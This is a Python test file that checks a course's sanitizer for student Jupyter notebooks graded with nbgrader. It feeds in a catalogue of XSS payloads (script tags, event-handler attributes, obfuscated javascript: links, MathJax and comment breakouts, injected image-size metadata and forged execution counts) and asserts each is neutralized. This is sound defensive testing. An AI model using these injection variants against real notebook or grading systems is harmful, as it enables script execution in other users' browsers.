"""utils.sanitize: what a student hands in or prints never runs in the instructor's browser.

Each payload class (issue #13) is checked at both places the course cleans:

- in the notebook itself (``SanitizeNotebook``, an autograde step, so the autograded
  notebook is safe in whatever later renders it), and
- in the HTML that nbgrader's formgrader and ``generate_feedback`` write, rendered
  here with the exporter configuration they read from ``nbgrader_config.py``.

Active content is judged by parsing the HTML (``active_parts``), never by string
search alone. Controls check that plots, pandas tables, the grader's check boxes
and ordinary markdown (bold, lists, code, http links) still come through.
"""

from __future__ import annotations

import base64
import html
import re
from collections import Counter
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from _html_probe import active_parts, scripts_of
from utils import sanitize

from utils import REPO_ROOT as ROOT  # noqa: E402
MARK = "PWNED"  # every payload would set or send this

# --- payloads ----------------------------------------------------------------------

MARKDOWN_PAYLOADS = {
    "script": f"<script>document.title='{MARK}'</script>",
    "img_onerror": f"<img src=x onerror=\"document.title='{MARK}'\">",
    "svg_onload": f"<svg onload=\"document.title='{MARK}'\"></svg>",
    "svg_script": f"<svg><script>document.title='{MARK}'</script></svg>",
    "iframe": f"<iframe srcdoc=\"<script>parent.document.title='{MARK}'</script>\"></iframe>",
    "object": f"<object data=\"javascript:document.title='{MARK}'\"></object>",
    "embed": f"<embed src=\"javascript:document.title='{MARK}'\">",
    "meta_refresh": f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:document.title='{MARK}'\">",
    "base": "<base href=\"https://attacker.invalid/\">",
    "form": f"<form action=\"/formgrader/api/grade/1\" method=post><button>{MARK}</button></form>",
    "style_tag": f"<style>body{{background:url(https://attacker.invalid/{MARK})}}</style>",
    "js_link": f"[click me](javascript:document.title='{MARK}')",
    "js_link_entity": f"[click me](java&#115;cript:document.title='{MARK}')",
    "js_link_escaped_colon": f"[click me](javascript\\:document.title='{MARK}')",
    "js_link_tab": f"[click me](<java\tscript:document.title='{MARK}'>)",
    "js_link_space": f"[click me](< javascript:document.title='{MARK}'>)",
    "js_reference": f"[click me]\n\n[click me]: javascript:document.title='{MARK}'",
    "js_autolink": f"<javascript:document.title='{MARK}'>",
    "html_js_href": f"<a href=\"javascript:document.title='{MARK}'\">click</a>",
    "math_then_html": f"$`$ <img src=x onerror=\"document.title='{MARK}'\"> `",
    "code_span_then_html": f"`a <img src=x onerror=\"document.title='{MARK}'\">",
    "comment_breakout": f"<!--><img src=x onerror=\"document.title='{MARK}'\">-->",
    "mathjax_href": f"$\\href{{javascript:document.title='{MARK}'}}{{click}}$",
}

OUTPUT_PAYLOADS = {  # mimetype -> data (each as the only output data of a display_data)
    "html_script": {"text/html": f"<script>document.title='{MARK}'</script>", "text/plain": "<IPython.HTML>"},
    "html_img": {"text/html": f"<img src=x onerror=\"document.title='{MARK}'\">"},
    "javascript": {"application/javascript": f"document.title='{MARK}'"},
    "x_javascript": {"application/x-javascript": f"document.title='{MARK}'"},
    "svg_onload": {"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' "
                                    f"onload=\"document.title='{MARK}'\"><circle r='5'/></svg>"},
    "svg_script": {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'><script>document.title='{MARK}'</script></svg>"},
    "markdown": {"text/markdown": f"<img src=x onerror=\"document.title='{MARK}'\"> "
                                  f"and [x](javascript:alert('{MARK}'))"},
    "widget": {"application/vnd.jupyter.widget-view+json": {"model_id": MARK, "version_major": 2, "version_minor": 0}},
    "latex_href": {"text/latex": f"$\\href{{javascript:alert('{MARK}')}}{{x}}$"},
    "png_breakout": {"image/png": f"\"><script>document.title='{MARK}'</script>"},
}

def render_markdown(source: str) -> str:
    """The markdown as nbconvert renders it with its defaults (no sanitizing at all)."""
    from nbconvert.filters.markdown_mistune import IPythonRenderer, MarkdownWithMath

    return MarkdownWithMath(renderer=IPythonRenderer(escape=False)).render(source)


def test_the_probe_sees_each_payload_unsanitized():
    """The payloads are real: nbconvert's own rendering of each is active."""
    for name, source in MARKDOWN_PAYLOADS.items():
        if name in {"js_link_tab", "js_link_space", "mathjax_href", "style_tag"}:
            continue  # mistune percent-encodes these, or MathJax renders them; still neutralized below
        assert active_parts(render_markdown(source)), name


# --- the notebook step ---------------------------------------------------------------

@pytest.mark.parametrize("name", sorted(MARKDOWN_PAYLOADS))
def test_markdown_payload_is_neutralized_in_the_notebook(name):
    source = f"My answer: dropout helps.\n\n{MARKDOWN_PAYLOADS[name]}\n"
    cleaned = sanitize.sanitize_markdown(source)
    rendered = render_markdown(cleaned)
    assert not active_parts(rendered), (name, cleaned, rendered)
    assert "My answer: dropout helps." in rendered
    # Any script scheme left in the text is broken (a zero-width space before the colon).
    plain = html.unescape(re.sub(r"[\t\n\r]", "", cleaned))
    assert not re.search(r"(?i)javascript\\?:", plain), cleaned
    if "javascript:" in MARKDOWN_PAYLOADS[name]:  # still legible: only a zero-width space was added
        assert "javascript\u200b:" in cleaned, cleaned


@pytest.mark.parametrize("name", sorted(MARKDOWN_PAYLOADS))
def test_markdown_payload_is_neutralized_where_html_is_rendered(name):
    rendered = sanitize.markdown2html({"cell": {}}, MARKDOWN_PAYLOADS[name])
    assert not active_parts(rendered), (name, rendered)


def test_script_payload_is_shown_as_text():
    """An instructor sees what was attempted, as text."""
    cleaned = sanitize.sanitize_markdown("Hello <script>alert(1)</script>")
    assert "&lt;script>alert(1)&lt;/script>" in cleaned
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in render_markdown(cleaned)


MARKDOWN_CONTROLS = [
    "**Dropout** zeroes a fraction *p* of the units.",
    "- one\n- two\n\n1. first\n2. second",
    "Call `checks.<question>.hint()` for a hint; `a < b` and `x<3`.",
    "```python\nmodel = keras.Sequential([layers.Dropout(0.3)])\nif a<b: pass\n```",
    "See [the paper](https://jmlr.org/papers/v15/srivastava14a.html) and <https://keras.io>.",
    "Math: $0 < p < 1$ and $$\\frac{1}{1-p}$$",
    "> a quote\n\n# A heading\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "YOUR ANSWER HERE",
    "Fish &amp; chips &rarr; &lt;tag&gt;",
    "Line one<br>line two, <b>bold</b> and <sub>low</sub>",
]


@pytest.mark.parametrize("source", MARKDOWN_CONTROLS)
def test_ordinary_markdown_is_kept_byte_for_byte(source):
    assert sanitize.sanitize_markdown(source) == source


def test_markdown_formatting_still_renders_where_html_is_rendered():
    rendered = sanitize.markdown2html({"cell": {}}, "\n\n".join(MARKDOWN_CONTROLS))
    for part in ("<strong>Dropout</strong>", "<em>p</em>", "<li>one</li>", "<ol>",
                 "<code>checks.&lt;question&gt;.hint()</code>",
                 'href="https://jmlr.org/papers/v15/srivastava14a.html"', 'href="https://keras.io"',
                 "<blockquote>", "<table>", "<b>bold</b>", "<br>", "<pre>", "$0 &lt; p &lt; 1$"):
        assert part in rendered, (part, rendered)


def test_a_strict_rewrite_keeps_the_rest_of_the_answer_readable():
    source = "**Bold** answer with a [link](https://example.org)\n\n<img src=x onerror=alert(1)>"
    rendered = render_markdown(sanitize.sanitize_markdown(source))
    assert "<strong>Bold</strong>" in rendered and 'href="https://example.org"' in rendered
    assert "&lt;img src=x onerror=alert(1)&gt;" in rendered


def _display(data: dict) -> nbformat.NotebookNode:
    return new_output("display_data", data=data)


def _png() -> str:
    import io

    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots(figsize=(1, 1))
    ax.plot([0, 1], [1, 0])
    buf = io.BytesIO()
    fig.savefig(buf, format="png")
    plt.close(fig)
    return base64.b64encode(buf.getvalue()).decode()


def _dataframe_html() -> str:
    import pandas as pd

    return pd.DataFrame({"epoch": [1, 2], "val_loss": [0.61, 0.59]})._repr_html_()


def _notebook(markdown: str, outputs: list) -> nbformat.NotebookNode:
    nb = new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {MARK: {}}}}
    answer = new_markdown_cell(markdown)
    answer.metadata["nbgrader"] = {"grade": True, "solution": True, "locked": False, "points": 1,
                                   "grade_id": "written", "schema_version": 3, "score": 0}
    nb.cells = [answer, new_code_cell("show()", outputs=outputs, execution_count=1),
                new_raw_cell(f"<script>document.title='{MARK}'</script>")]
    return nb


def _sanitized(nb):
    out, _ = sanitize.SanitizeNotebook().preprocess(nb, {})
    return out


@pytest.mark.parametrize("name", sorted(OUTPUT_PAYLOADS))
def test_output_payload_is_removed_or_cleaned(name):
    nb = _sanitized(_notebook("ok", [_display(dict(OUTPUT_PAYLOADS[name]))]))
    (output,) = nb.cells[1].outputs
    for mimetype, value in output.data.items():
        assert mimetype in sanitize.KEPT_MIMETYPES, mimetype
        text = value if isinstance(value, str) else str(value)
        if mimetype == "text/html":
            assert not active_parts(text), text
        elif mimetype == "text/markdown":
            assert not active_parts(render_markdown(text)), text
        elif mimetype == "text/latex":
            assert not re.search(r"(?i)javascript:", text), text
        elif mimetype == "text/plain":
            assert "document.title" not in text or name == "html_script", text
        else:
            assert MARK not in text, (mimetype, text)


def test_image_size_metadata_cannot_add_attributes():
    """nbconvert writes an image's width and height unquoted (``width={{ w | escape_html }}``),
    and never sanitizes image outputs: a width of ``1 onload=...`` adds an event handler."""
    metadata = {"image/png": {"width": f"1 onload=document.title='{MARK}'", "height": 40},
                "height": "2 onload=alert(2)", "width": 300, "filenames": {"image/png": "x.png"}}
    nb = _sanitized(_notebook("ok", [new_output("display_data", data={"image/png": _png()}, metadata=metadata)]))
    (output,) = nb.cells[1].outputs
    assert output.metadata == {"image/png": {"height": 40}, "width": 300}


def test_execution_counts_are_integers():
    """nbconvert writes ``In [{{ cell.execution_count }}]`` unescaped; it validates the
    notebook first, so a forged count would make the grading page fail, not run."""
    nb = _notebook("ok", [new_output("execute_result", data={"text/plain": "1"}, execution_count=3)])
    nb.cells[1].execution_count = f"<img src=x onerror=alert('{MARK}')>"
    nb.cells[1].outputs[0].execution_count = "<script>"
    nb = _sanitized(nb)
    assert nb.cells[1].execution_count is None and nb.cells[1].outputs[0].execution_count is None
    assert _sanitized(_notebook("ok", [])).cells[1].execution_count == 1


def test_javascript_output_leaves_a_note():
    nb = _sanitized(_notebook("ok", [_display({"application/javascript": "alert(1)"})]))
    (output,) = nb.cells[1].outputs
    assert list(output.data) == ["text/plain"]
    assert "application/javascript" in output.data["text/plain"]


def test_svg_output_becomes_an_image():
    svg = "<svg xmlns='http://www.w3.org/2000/svg' width='10' height='10'><circle r='5'/></svg>"
    nb = _sanitized(_notebook("ok", [_display({"image/svg+xml": svg, "text/plain": "<Figure>"})]))
    (output,) = nb.cells[1].outputs
    assert "image/svg+xml" not in output.data
    tag = output.data["text/html"]
    assert tag.startswith('<img src="data:image/svg+xml;base64,')
    assert base64.b64decode(tag.split("base64,")[1].split('"')[0]).decode() == svg


def test_the_notebook_keeps_plots_tables_check_boxes_errors_and_streams():
    from utils.questions import feedback

    png, table, box = _png(), _dataframe_html(), feedback.box("Question 1", "incorrect", "Add a Dropout <layer>")
    outputs = [
        new_output("stream", name="stdout", text="epoch 1 <b>\n"),
        new_output("stream", name="stderr", text="warning <script>\n"),
        _display({"image/png": png, "text/plain": "<Figure size 100x100>"}),
        new_output("execute_result", data={"text/html": table, "text/plain": "   epoch"}, execution_count=1),
        _display({"text/html": box, "text/plain": "✘ Incorrect"}),
        new_output("error", ename="CheckFailed", evalue="<b>x</b>", traceback=["CheckFailed: <b>x</b>"]),
    ]
    nb = _sanitized(_notebook("**My** answer", outputs))
    kept = nb.cells[1].outputs
    assert kept[0].text == "epoch 1 <b>\n" and kept[1].text == "warning <script>\n"
    assert kept[2].data["image/png"] == png and kept[2].data["text/plain"] == "<Figure size 100x100>"
    assert '<table border="1" class="dataframe">' in kept[3].data["text/html"]
    assert "<th>val_loss</th>" in kept[3].data["text/html"]
    assert kept[3].data["text/plain"] == "   epoch" and kept[3].output_type == "execute_result"
    assert 'class="course-check course-check-incorrect"' in kept[4].data["text/html"]
    assert "border-left:6px solid" in kept[4].data["text/html"]
    assert "Add a Dropout &lt;layer&gt;" in kept[4].data["text/html"]
    assert kept[5].evalue == "<b>x</b>"  # errors are text, escaped by every renderer
    assert nb.cells[0].source == "**My** answer"
    assert "widgets" not in nb.metadata
    assert not active_parts(nb.cells[2].source)
    nbformat.validate(nb)


def test_the_unanswered_stub_keeps_its_checksum():
    """nbgrader gives an untouched written answer 0 by its checksum: cleaning must not change it."""
    from nbgrader.utils import compute_checksum

    nb = _notebook("YOUR ANSWER HERE", [])
    nb.cells[0].metadata.nbgrader["checksum"] = compute_checksum(nb.cells[0])
    assert compute_checksum(_sanitized(nb).cells[0]) == nb.cells[0].metadata.nbgrader["checksum"]


def test_attachments_keep_only_raster_images():
    nb = _notebook("![plot](attachment:a.png) ![x](attachment:b.svg)", [])
    nb.cells[0].attachments = {"a.png": {"image/png": _png()},
                               "b.svg": {"image/svg+xml": "<svg onload='alert(1)'/>"},
                               "c.html": {"text/html": "<script>alert(1)</script>"}}
    nb = _sanitized(nb)
    assert set(nb.cells[0].attachments) == {"a.png"}
    assert nb.cells[0].source == "![plot](attachment:a.png) ![x](attachment:b.svg)"


def test_markdown_that_cannot_be_rendered_is_rewritten_strictly():
    """A reference to a missing attachment makes nbconvert fail: no verdict, so strict."""
    source = "<b>x</b> ![y](attachment:missing.png) <img src=x onerror=alert(1)>"
    assert sanitize.sanitize_markdown(source) == "<b>x</b> ![y](attachment:missing.png) &lt;img src=x onerror=alert(1)>"


# --- the renderers: nbgrader's formgrader and generate_feedback, configured by the course ---

def _course_config():
    from traitlets.config.loader import PyFileConfigLoader

    return PyFileConfigLoader("nbgrader_config.py", path=str(ROOT)).load_config()


def _payload_notebook() -> nbformat.NotebookNode:
    markdown = "My written answer.\n\n" + "\n\n".join(MARKDOWN_PAYLOADS.values())
    outputs = [_display(dict(d)) for d in OUTPUT_PAYLOADS.values()]
    outputs.append(_display({"image/png": _png(), "text/plain": "<Figure>"}))
    outputs.append(new_output("display_data", data={"image/png": _png()},
                              metadata={"image/png": {"width": f"1 onload=document.title='{MARK}'"}}))
    outputs.append(_display({"text/html": _dataframe_html(), "text/plain": "df"}))
    return _notebook(markdown, outputs)


@pytest.mark.parametrize("template", ["formgrade", "feedback"])
def test_the_course_config_makes_nbgraders_html_safe(template):
    """The exporter as nbgrader builds it for the formgrader (an HTMLExporter given the
    loaded config, template 'formgrade') and for feedback (template 'feedback'), with the
    course's nbgrader_config.py, renders none of the payloads; without it, it renders them."""
    import nbgrader.server_extensions.formgrader.handlers as fg
    from nbconvert.exporters import HTMLExporter
    from traitlets.config import Config

    def render(config, nb):
        config = Config(config)
        config.HTMLExporter.template_name = template
        config.HTMLExporter.extra_template_basedirs = [fg.template_path]
        # as GenerateFeedback sets it (the feedback page inlines bootstrap's CSS)
        config.HTMLExporter.extra_template_paths = [str(Path(fg.static_path) / "node_modules/bootstrap/dist/css")]
        resources = {"base_url": "", "student": "bob<script>alert(1)</script>", "first_name": 'Bob"<i>',
                     "last_name": "<script>alert(2)</script>", "notebook_path": 'x"><script>alert(3)</script>',
                     "index": 0, "total": 1, "notebook_id": "spotify", "assignment_id": "spotify",
                     "submission_id": "abc",
                     "nbgrader": {"notebook": "spotify", "score": 1, "max_score": 2, "late_penalty": 0}}
        body, _ = HTMLExporter(config=config).from_notebook_node(nb, resources=resources)
        return body

    unsafe = render(Config(), _payload_notebook())
    assert {"<script>", "img[onerror]", "a[href=javascript:]"} <= set(active_parts(unsafe))

    config = _course_config()
    safe = render(config, _payload_notebook())
    template_only = render(config, _notebook("My written answer.", []))  # the page's own scripts, inputs
    extra = Counter(active_parts(safe)) - Counter(active_parts(template_only))
    assert not extra, extra
    assert set(scripts_of(safe)) <= set(scripts_of(template_only))
    assert MARK not in "".join(scripts_of(safe)) and "alert(" not in "".join(scripts_of(safe))
    assert "My written answer." in safe
    assert "data:image/png;base64," in safe and "<th>val_loss</th>" in safe and 'class="dataframe"' in safe
